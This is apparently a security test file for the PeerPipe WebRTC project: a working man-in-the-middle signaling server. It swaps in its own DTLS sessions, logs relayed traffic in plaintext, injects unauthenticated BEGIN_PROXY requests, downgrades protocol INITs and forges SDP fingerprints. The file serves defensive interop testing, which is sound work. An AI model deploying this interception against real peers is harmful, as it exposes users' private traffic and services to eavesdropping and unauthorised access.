#!/usr/bin/python3
"""A MALICIOUS PeerPipe signaling server, for tests: a real man in the middle.

It speaks signaling v1 (../shared/spec/signaling-v1.md) over wss with a
self-signed certificate, like peerpipe-server, enough for a few peers in a
room: FAST_ROOM_EXACT, JOIN_ROOM, NEW_ROOM, LEAVE_ROOM, SDP_NEW_STATE.

Modes:
  (default)       man in the middle.  When peer A's offer for peer B
                  arrives it is NOT relayed: the server answers A itself
                  with an aiortc RTCPeerConnection (its own DTLS certificate
                  and fingerprint, its own candidates) and makes its own
                  offer to B with a second aiortc peer connection, as if it
                  came from A.  Every data channel is relayed both ways by
                  label: a channel one side opens is opened with the same
                  label and reliability on the other side, messages are
                  relayed in order (text stays text, binary stays binary),
                  and a close is mirrored.  Everything it relays is logged
                  in plaintext on stderr: control messages in full, proxy
                  channel payloads as their first bytes.
  --passthrough   an honest relay (SDP_STATE to the target, unchanged): the
                  control case.
  --inject-begin  (with the default mode) also attacks: once both INITs
                  went through, it sends its own BEGIN_PROXY, for every
                  port a side's INIT offered, to that side, and logs the
                  answer (it is never relayed).  A provider that serves it
                  before authenticating the peer leaks its services.
  --inject-port PORT  (with --inject-begin, repeatable) a TCP port to ask
                  for as well, whether or not an INIT offered it (an agent
                  offers nothing in INIT to a peer it does not know yet).
  --downgrade     (with the default mode) rewrites every INIT it relays
                  into a version-1 INIT: the v2 fields (pp_version,
                  pp_features, pp_adaptive, pp_id, pp_nonce) are removed,
                  so each side believes the other is a v1 peer with no
                  identity.

  --forge-fingerprints  (with the default mode) the subtler swap: the SDP
                  it sends each side carries the OTHER real peer's DTLS
                  fingerprint (a=fingerprint lines copied from the real
                  offer/answer), while its DTLS sessions still use its own
                  certificates.  Both peers would then sign the same pair of
                  fingerprints; only DTLS's own check of the certificate
                  against the SDP stops it (the handshake must fail).

Log lines the tests look for (stderr, one per event):
  listening on wss://HOST:PORT/ws
  MITM session A->B: answered A's offer with our own DTLS fingerprint FP
  MITM session A->B: offered B our own DTLS fingerprint FP
  MITM LABEL A->B text: {...}              (control messages, in full)
  MITM LABEL A->B binary N bytes: b'...'   (first 200 bytes)
  MITM INJECT ...                          (--inject-begin)
  MITM DOWNGRADE ...                       (--downgrade)
  RELAY TYPE A->B                          (--passthrough)

Usage:
  /usr/bin/python3 tests/interop/mitm_server.py [--listen 127.0.0.1:0]
      [--passthrough | [--inject-begin [--inject-port PORT]...] [--downgrade]
       [--forge-fingerprints]]
      [--host-address 127.0.0.1] [--cert-dir DIR] [--verbose]

aiortc 1.4 notes (see aiortc_peer.py): it never trickles (its SDP carries
its candidates), takes trickled candidates for the BUNDLE mid only, and
gathers no host candidate on 127.0.0.1 unless --host-address says so.
"""

import argparse
import asyncio
import datetime
import json
import logging
import os
import re
import ssl
import sys
import tempfile
import uuid

sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))

from aiortc import (RTCConfiguration, RTCPeerConnection,  # noqa: E402
                    RTCSessionDescription)
import websockets  # noqa: E402

import aiortc_peer  # noqa: E402  (candidate helpers, --host-address)

log = logging.getLogger("mitm")

CONTROL = "control-channel"
LOG_BYTES = 200
NAME_RE = re.compile(r"[A-Za-z0-9_+\-=/ $%#@!?,;()\[\]]{4,48}")
V2_FIELDS = ("pp_version", "pp_features", "pp_adaptive", "pp_id", "pp_nonce")


# ---------------------------------------------------------------- TLS

def make_cert(directory):
    """A self-signed ECDSA P-256 certificate (like peerpipe-server's)."""
    from cryptography import x509
    from cryptography.hazmat.primitives import hashes, serialization
    from cryptography.hazmat.primitives.asymmetric import ec
    from cryptography.x509.oid import NameOID

    key = ec.generate_private_key(ec.SECP256R1())
    name = x509.Name([x509.NameAttribute(NameOID.COMMON_NAME,
                                         "peerpipe-mitm")])
    now = datetime.datetime.utcnow()
    cert = (x509.CertificateBuilder().subject_name(name).issuer_name(name)
            .public_key(key.public_key())
            .serial_number(x509.random_serial_number())
            .not_valid_before(now - datetime.timedelta(days=1))
            .not_valid_after(now + datetime.timedelta(days=30))
            .sign(key, hashes.SHA256()))
    cert_path = os.path.join(directory, "mitm-cert.pem")
    key_path = os.path.join(directory, "mitm-key.pem")
    with open(cert_path, "wb") as f:
        f.write(cert.public_bytes(serialization.Encoding.PEM))
    fd = os.open(key_path, os.O_WRONLY | os.O_CREAT | os.O_TRUNC, 0o600)
    with os.fdopen(fd, "wb") as f:
        f.write(key.private_bytes(serialization.Encoding.PEM,
                                  serialization.PrivateFormat.PKCS8,
                                  serialization.NoEncryption()))
    return cert_path, key_path


def sdp_fingerprint(sdp):
    for line in (sdp or "").splitlines():
        if line.startswith("a=fingerprint:"):
            return line[len("a=fingerprint:"):].strip()
    return "?"


def fingerprint_lines(sdp):
    return [l for l in (sdp or "").splitlines()
            if l.startswith("a=fingerprint:")]


def forge_fingerprints(sdp, lines):
    """sdp with each run of a=fingerprint lines replaced by `lines`."""
    out, prev = [], False
    for line in sdp.splitlines():
        fp = line.startswith("a=fingerprint:")
        if fp and not prev:
            out.extend(lines)
        elif not fp:
            out.append(line)
        prev = fp
    return "\r\n".join(out) + "\r\n"


# ---------------------------------------------------------------- channels

def show(msg):
    """A relayed message as a log text: what the man in the middle reads."""
    if isinstance(msg, str):
        return "text: %s" % msg
    data = bytes(msg)
    return "binary %d bytes: %r" % (len(data), data[:LOG_BYTES])


def pending_bytes(ch):
    n = ch.bufferedAmount
    sctp = getattr(ch, "transport", None)
    if sctp is not None:
        for q in ("_outbound_queue", "_sent_queue", "_data_channel_queue"):
            n += len(getattr(sctp, q, ()))
    return n


async def close_after_drain(ch, limit=10.0):
    """Closes ch once what we sent on it is acknowledged: aiortc 1.4's
    receiver applies a stream reset at once and drops data in flight."""
    loop = asyncio.get_running_loop()
    deadline = loop.time() + limit
    while ch.readyState == "open" and pending_bytes(ch) and \
            loop.time() < deadline:
        await asyncio.sleep(0.02)
    if ch.readyState in ("connecting", "open"):
        ch.close()


class End:
    """One side of a relayed channel: its aiortc channel and what waits
    for it to open."""

    def __init__(self, who):
        self.who = who		# the real peer on this side
        self.ch = None
        self.queue = []
        self.closed = False

    def send(self, msg):
        if self.closed:
            return False
        if self.ch is None or self.ch.readyState != "open":
            self.queue.append(msg)
            return True
        self.ch.send(msg)
        return True

    def flush(self):
        q, self.queue = self.queue, []
        for msg in q:
            self.ch.send(msg)


class Pipe:
    """A data channel relayed between the two sides of a session."""

    def __init__(self, session, label):
        self.session = session
        self.label = label
        self.ends = {}		# side ("A"/"B") -> End

    def attach(self, side, ch):
        end = self.ends.setdefault(side, End(self.session.peer(side)))
        end.ch = ch
        other = "B" if side == "A" else "A"

        def on_open():
            log.info("MITM %s: channel open towards %s", self.label, end.who)
            end.flush()

        def on_message(msg):
            self.session.on_message(self, side, msg)

        def on_close():
            if end.closed:
                return
            end.closed = True
            log.info("MITM %s: closed by %s", self.label, end.who)
            o = self.ends.get(other)
            if o is not None and not o.closed:
                o.closed = True
                if o.ch is not None:
                    asyncio.ensure_future(close_after_drain(o.ch))

        ch.on("open", on_open)
        ch.on("message", on_message)
        ch.on("close", on_close)
        if ch.readyState == "open":
            on_open()

    def forward(self, from_side, msg):
        to = "B" if from_side == "A" else "A"
        # The other side's channel may not exist yet (A opens the control
        # channel only once connected): queue for it.
        end = self.ends.setdefault(to, End(self.session.peer(to)))
        if not end.send(msg):
            log.info("MITM %s: message for %s dropped (channel gone)",
                     self.label, self.session.peer(to))


# ---------------------------------------------------------------- sessions

class Session:
    """A man in the middle between offerer A and answerer B: pc_a faces A
    (we answer it), pc_b faces B (we offer to it)."""

    def __init__(self, server, a, b, offer):
        self.server = server
        self.a, self.b = a, b
        self.offer = offer
        self.tag = "session %s->%s" % (a, b)
        self.pc_a = self._pc("A")
        self.pc_b = self._pc("B")
        self.pipes = {}		# label -> Pipe (the current one)
        self.remote = {"A": None, "B": None}	# their SDP once applied
        self.early = {"A": [], "B": []}		# candidates before the SDP
        self.inits = {}		# side -> INIT object as sent by that side
        self.injected = {}	# uuid -> side it was sent to
        self.injected_done = False
        self.closed = False
        self.answered = asyncio.Event()
        self.task = asyncio.ensure_future(self._start())

    def peer(self, side):
        return self.a if side == "A" else self.b

    def pc(self, side):
        return self.pc_a if side == "A" else self.pc_b

    def _pc(self, side):
        pc = RTCPeerConnection(RTCConfiguration(iceServers=[]))

        @pc.on("datachannel")
        def on_datachannel(ch):
            self._mirror(side, ch)

        @pc.on("connectionstatechange")
        def on_state():
            log.info("MITM %s: peer connection with %s: %s", self.tag,
                     self.peer(side), pc.connectionState)
        return pc

    # -- channels

    def _pipe(self, label):
        p = self.pipes.get(label)
        if p is None or any(e.closed for e in p.ends.values()):
            p = self.pipes[label] = Pipe(self, label)
        return p

    def _mirror(self, side, ch):
        """side opened ch: open the same label on the other side."""
        other = "B" if side == "A" else "A"
        log.info("MITM %s: %s opened %r (ordered %s, maxRetransmits %s, "
                 "maxPacketLifeTime %s)", self.tag, self.peer(side), ch.label,
                 ch.ordered, ch.maxRetransmits, ch.maxPacketLifeTime)
        uid = ch.label[len("proxy-"):] if ch.label.startswith("proxy-") \
            else None
        if uid is not None and uid in self.injected:
            self._injected_channel(side, ch, uid)
            return
        pipe = self.pipes.get(ch.label)
        if ch.label == CONTROL and pipe is not None and \
                pipe.ends.get(side, End(None)).ch is None and \
                other in pipe.ends:
            # The control channel we opened towards B when we offered.
            pipe.attach(side, ch)
            return
        pipe = self._pipe(ch.label)
        pipe.attach(side, ch)
        mirror = self.pc(other).createDataChannel(
            ch.label, ordered=ch.ordered, maxRetransmits=ch.maxRetransmits,
            maxPacketLifeTime=ch.maxPacketLifeTime, protocol=ch.protocol)
        pipe.attach(other, mirror)

    def on_message(self, pipe, side, msg):
        src, dst = self.peer(side), self.peer("B" if side == "A" else "A")
        log.info("MITM %s %s->%s %s", pipe.label, src, dst, show(msg))
        if pipe.label == CONTROL:
            msg = self._control(side, msg)
            if msg is None:
                return
        pipe.forward(side, msg)

    def _control(self, side, msg):
        """A control message from side: what to relay (None: nothing)."""
        try:
            obj = json.loads(msg if isinstance(msg, str) else
                             bytes(msg).decode("utf-8"))
        except ValueError:
            return msg
        if not isinstance(obj, dict):
            return msg
        t = obj.get("type")
        if t in ("SUCCESS", "FAILED"):
            name = obj.get("channel-name") or ""
            uid = name[len("proxy-"):]
            if name.startswith("proxy-") and uid in self.injected:
                log.info("MITM INJECT %s answered our BEGIN_PROXY for %s: "
                         "%s (not relayed)", self.peer(side), name,
                         json.dumps(obj))
                return None
        if t != "INIT":
            return msg
        self.inits[side] = obj
        if self.server.args.downgrade:
            removed = [k for k in V2_FIELDS if k in obj]
            for k in removed:
                del obj[k]
            log.info("MITM DOWNGRADE INIT from %s: removed %s", self.peer(side),
                     ", ".join(removed) or "nothing")
            msg = json.dumps(obj) if isinstance(msg, str) else \
                json.dumps(obj).encode("utf-8")
        if self.server.args.inject_begin and len(self.inits) == 2 and \
                not self.injected_done:
            self.injected_done = True
            # After the INIT we relay now, each side has the other's INIT.
            asyncio.get_running_loop().call_soon(self._inject)
        return msg

    def _inject(self):
        pipe = self.pipes.get(CONTROL)
        for side, init in self.inits.items():
            ports = init.get("ports") if isinstance(init.get("ports"),
                                                    list) else []
            ports = list(ports) + ["%d:TCP" % p
                                   for p in self.server.args.inject_port
                                   if "%d:TCP" % p not in ports]
            for entry in ports:
                m = re.fullmatch(r"(\d+):(TCP|UDP)", str(entry))
                if not m or pipe is None or side not in pipe.ends:
                    continue
                uid = str(uuid.uuid4())
                self.injected[uid] = side
                req = {"type": "BEGIN_PROXY", "port": int(m.group(1)),
                       "protocol": m.group(2), "uuid": uid}
                log.info("MITM INJECT BEGIN_PROXY to %s: %s", self.peer(side),
                         json.dumps(req))
                pipe.ends[side].send(json.dumps(req))

    def _injected_channel(self, side, ch, uid):
        log.warning("MITM INJECT %s OPENED proxy-%s for us: its service is "
                    "reachable without authentication", self.peer(side), uid)

        def on_message(msg):
            log.warning("MITM INJECT proxy-%s from %s %s", uid,
                        self.peer(side), show(msg))
        ch.on("message", on_message)
        if ch.readyState == "open":
            ch.send(b"\x00GET / HTTP/1.0\r\n\r\n")
        else:
            ch.on("open", lambda: ch.send(b"\x00GET / HTTP/1.0\r\n\r\n"))

    # -- negotiation

    async def _start(self):
        try:
            await self._negotiate()
        except Exception as e:	# noqa: BLE001 - logged, the session dies
            log.warning("MITM %s: negotiation failed: %s: %s", self.tag,
                        type(e).__name__, e)

    async def _negotiate(self):
        forge = self.server.args.forge_fingerprints
        await self.pc_a.setRemoteDescription(
            RTCSessionDescription(sdp=self.offer, type="offer"))
        self.remote["A"] = self.offer
        await self._early("A")
        if not forge:
            await self._answer_a()
        # Offer to B as A, shaped like A's offer: the offerer creates the
        # control channel before the offer (v1 spec), plus audio if A had it.
        pipe = self._pipe(CONTROL)
        pipe.attach("B", self.pc_b.createDataChannel(CONTROL, ordered=True))
        if aiortc_peer.sdp_has_audio(self.offer):
            self.pc_b.addTransceiver("audio", direction="recvonly")
        await self.pc_b.setLocalDescription(await self.pc_b.createOffer())
        offer = self.pc_b.localDescription.sdp
        if forge:
            log.info("MITM %s: FORGED offer to %s: %s's DTLS fingerprint %s "
                     "in the SDP, our own %s in DTLS", self.tag, self.b,
                     self.a, sdp_fingerprint(self.offer),
                     sdp_fingerprint(offer))
            offer = forge_fingerprints(offer, fingerprint_lines(self.offer))
        else:
            log.info("MITM %s: offered %s our own DTLS fingerprint %s",
                     self.tag, self.b, sdp_fingerprint(offer))
        await self.server.push_sdp(self.b, self.a, "offer", offer)
        if forge:
            # A's answer must carry B's real fingerprint: wait for it.
            await self.answered.wait()
            await self._answer_a()

    async def _answer_a(self):
        """Answers A ourselves (forged: with B's real fingerprint)."""
        await self.pc_a.setLocalDescription(await self.pc_a.createAnswer())
        answer = self.pc_a.localDescription.sdp
        if self.server.args.forge_fingerprints:
            log.info("MITM %s: FORGED answer to %s: %s's DTLS fingerprint %s "
                     "in the SDP, our own %s in DTLS", self.tag, self.a,
                     self.b, sdp_fingerprint(self.remote["B"]),
                     sdp_fingerprint(answer))
            answer = forge_fingerprints(answer,
                                        fingerprint_lines(self.remote["B"]))
        else:
            log.info("MITM %s: answered %s's offer with our own DTLS "
                     "fingerprint %s (theirs: %s)", self.tag, self.a,
                     sdp_fingerprint(answer), sdp_fingerprint(self.offer))
        await self.server.push_sdp(self.a, self.b, "answer", answer)

    async def on_answer(self, sdp):
        if self.closed or self.remote["B"] is not None:
            return
        log.info("MITM %s: %s answered with DTLS fingerprint %s", self.tag,
                 self.b, sdp_fingerprint(sdp))
        self.remote["B"] = sdp
        self.answered.set()
        try:
            await self.pc_b.setRemoteDescription(
                RTCSessionDescription(sdp=sdp, type="answer"))
        except Exception as e:	# noqa: BLE001
            log.warning("MITM %s: %s's answer refused: %s: %s", self.tag,
                        self.b, type(e).__name__, e)
            return
        await self._early("B")

    async def on_candidate(self, side, data):
        if self.closed:
            return
        if self.remote[side] is None or \
                self.pc(side).remoteDescription is None:
            self.early[side].append(data)
            return
        await aiortc_peer.add_remote_candidate(self.pc(side), data,
                                               self.remote[side])

    async def _early(self, side):
        early, self.early[side] = self.early[side], []
        for data in early:
            await aiortc_peer.add_remote_candidate(self.pc(side), data,
                                                   self.remote[side])

    async def close(self):
        if self.closed:
            return
        self.closed = True
        self.task.cancel()
        for pc in (self.pc_a, self.pc_b):
            try:
                await asyncio.wait_for(pc.close(), 5)
            except Exception:	# noqa: BLE001
                pass
        log.info("MITM %s: closed", self.tag)


# ---------------------------------------------------------------- signaling

class Room:
    def __init__(self, uuid_, name):
        self.uuid = uuid_
        self.name = name
        self.members = {}	# name -> Client


class Client:
    def __init__(self, ws):
        self.ws = ws
        self.room = None
        self.name = None


class Server:
    def __init__(self, args):
        self.args = args
        self.rooms = {}
        self.sessions = {}	# (offerer, answerer) -> Session

    async def send(self, client, mtype, data=None):
        msg = {"type": mtype}
        if data is not None:
            msg["data"] = data
        try:
            await client.ws.send(json.dumps(msg))
        except websockets.ConnectionClosed:
            pass

    def member(self, client, name):
        if client.room is None:
            return None
        return client.room.members.get(name)

    async def push_sdp(self, to, sender, sdp_type, sdp_data):
        """SDP_STATE to `to`, as if from `sender`."""
        for room in self.rooms.values():
            target = room.members.get(to)
            if target is not None and sender in room.members:
                await self.send(target, "SDP_STATE", {
                    "type": sdp_type, "from": sender, "sdp_data": sdp_data})
                return
        log.warning("MITM: cannot reach %s", to)

    async def handler(self, ws, path=None):
        client = Client(ws)
        try:
            async for text in ws:
                await self.request(client, text)
        except websockets.ConnectionClosed:
            pass
        finally:
            await self.leave(client)

    async def request(self, client, text):
        try:
            msg = json.loads(text)
        except ValueError:
            await self.send(client, "FAILED", {"reason": "Invalid data"})
            return
        if not isinstance(msg, dict):
            await self.send(client, "FAILED", {"reason": "Invalid data"})
            return
        t = msg.get("type")
        if t in ("FAST_ROOM_EXACT", "JOIN_ROOM", "NEW_ROOM"):
            await self.join(client, t, msg)
        elif t == "LEAVE_ROOM":
            if client.room is None:
                await self.send(client, "FAILED", {"reason": "Conflict"})
                return
            await self.leave(client)
            await self.send(client, "SUCCESS")
        elif t == "SDP_NEW_STATE":
            await self.sdp(client, msg)
        else:
            await self.send(client, "FAILED", {"reason": "Unknown message"})

    async def join(self, client, t, msg):
        name, rname = msg.get("user_name"), msg.get("room_name")
        ruuid = msg.get("room_uuid") if t != "NEW_ROOM" else str(uuid.uuid4())
        if not all(isinstance(x, str) for x in (name, rname, ruuid)) or \
                not NAME_RE.fullmatch(name) or not NAME_RE.fullmatch(rname):
            await self.send(client, "FAILED", {"reason": "Invalid data"})
            return
        if client.room is not None:
            await self.send(client, "FAILED", {"reason": "Conflict"})
            return
        room = self.rooms.get(ruuid)
        if room is None and t == "JOIN_ROOM":
            await self.send(client, "FAILED",
                            {"reason": "Invalid room name/UUID"})
            return
        if room is not None and room.name != rname:
            await self.send(client, "FAILED",
                            {"reason": "Invalid room name/UUID"})
            return
        if room is not None and name in room.members:
            await self.send(client, "FAILED", {
                "reason": "User with this usename already in the room"})
            return
        created = room is None
        if created:
            room = self.rooms[ruuid] = Room(ruuid, rname)
        room.members[name] = client
        client.room, client.name = room, name
        log.info("%s joined room %s", name, ruuid)
        if created:
            await self.send(client, "ROOM_CREATED", {"room_uuid": ruuid})
        else:
            await self.send(client, "ROOM_JOINED",
                            {"room_members": list(room.members)})
        for other, c in list(room.members.items()):
            if other != name:
                await self.send(c, "ROOM_NEW_MEMBER", {"name": name})

    async def leave(self, client):
        room, name = client.room, client.name
        if room is None:
            return
        client.room = client.name = None
        room.members.pop(name, None)
        log.info("%s left room %s", name, room.uuid)
        for key in [k for k in self.sessions if name in k]:
            await self.sessions.pop(key).close()
        for c in list(room.members.values()):
            await self.send(c, "ROOM_MEMBER_LEFT", {"name": name})
        if not room.members:
            self.rooms.pop(room.uuid, None)

    async def sdp(self, client, msg):
        name, target = msg.get("user_name"), msg.get("target_user")
        sdp_type, data = msg.get("sdp_type"), msg.get("sdp_data")
        if client.room is None:
            await self.send(client, "FAILED", {"reason": "Conflict"})
            return
        if name != client.name:
            await self.send(client, "FAILED", {"reason": "Forbidden"})
            return
        dest = self.member(client, target)
        if dest is None:
            await self.send(client, "FAILED",
                            {"reason": "Not found requested user"})
            return
        if sdp_type not in ("offer", "answer", "candidate"):
            await self.send(client, "FAILED", {"reason": "Invalid data"})
            return
        await self.send(client, "SUCCESS")
        if self.args.passthrough:
            log.info("RELAY %s %s->%s", sdp_type, name, target)
            await self.send(dest, "SDP_STATE", {
                "type": sdp_type, "from": name, "sdp_data": data})
            return
        if sdp_type == "offer":
            if not isinstance(data, str):
                return
            old = self.sessions.pop((name, target), None)
            if old is not None:
                await old.close()
            log.info("MITM: intercepted %s's offer for %s (DTLS fingerprint "
                     "%s): not relayed", name, target, sdp_fingerprint(data))
            self.sessions[(name, target)] = Session(self, name, target, data)
        elif sdp_type == "answer":
            s = self.sessions.get((target, name))
            if s is not None and isinstance(data, str):
                await s.on_answer(data)
        else:
            s = self.sessions.get((name, target))
            if s is not None:
                await s.on_candidate("A", data)
            elif (target, name) in self.sessions:
                await self.sessions[(target, name)].on_candidate("B", data)


async def amain(args):
    cert_dir = args.cert_dir or tempfile.mkdtemp(prefix="pp-mitm-")
    cert, key = make_cert(cert_dir)
    ctx = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
    ctx.load_cert_chain(cert, key)
    host, port = args.listen.rsplit(":", 1)
    server = Server(args)
    async with websockets.serve(server.handler, host.strip("[]"), int(port),
                                ssl=ctx, compression=None, max_size=1 << 20,
                                ping_interval=None) as ws_server:
        sock = ws_server.sockets[0].getsockname()
        log.info("listening on wss://%s:%d/ws (%s)", sock[0], sock[1],
                 "passthrough" if args.passthrough else "man in the middle"
                 + (", injecting BEGIN_PROXY" if args.inject_begin else "")
                 + (", downgrading INIT to v1" if args.downgrade else "")
                 + (", forging fingerprints" if args.forge_fingerprints
                    else ""))
        stop = asyncio.Event()
        loop = asyncio.get_running_loop()
        import signal
        for sig in (signal.SIGTERM, signal.SIGINT):
            loop.add_signal_handler(sig, stop.set)
        await stop.wait()
        for s in list(server.sessions.values()):
            await s.close()
    log.info("stopped")


def main(argv=None):
    p = argparse.ArgumentParser(description=__doc__.split("\n")[0])
    p.add_argument("--listen", default="127.0.0.1:0")
    p.add_argument("--passthrough", action="store_true")
    p.add_argument("--inject-begin", action="store_true")
    p.add_argument("--inject-port", type=int, action="append", default=[])
    p.add_argument("--downgrade", action="store_true")
    p.add_argument("--forge-fingerprints", action="store_true")
    p.add_argument("--host-address", action="append", default=[])
    p.add_argument("--cert-dir")
    p.add_argument("--verbose", action="store_true")
    args = p.parse_args(argv)
    if args.passthrough and (args.inject_begin or args.downgrade or
                             args.forge_fingerprints):
        p.error("--passthrough relays honestly: no attack options")
    logging.basicConfig(stream=sys.stderr,
                        level=logging.DEBUG if args.verbose else logging.INFO,
                        format="%(asctime)s mitm_server %(message)s")
    if not args.verbose:
        for noisy in ("aioice", "aiortc", "websockets"):
            logging.getLogger(noisy).setLevel(logging.WARNING)
    hosts = [x.strip() for v in args.host_address for x in v.split(",")
             if x.strip()]
    if hosts:
        aiortc_peer.restrict_host_addresses(hosts)
    asyncio.run(amain(args))
    return 0


if __name__ == "__main__":
    sys.exit(main())
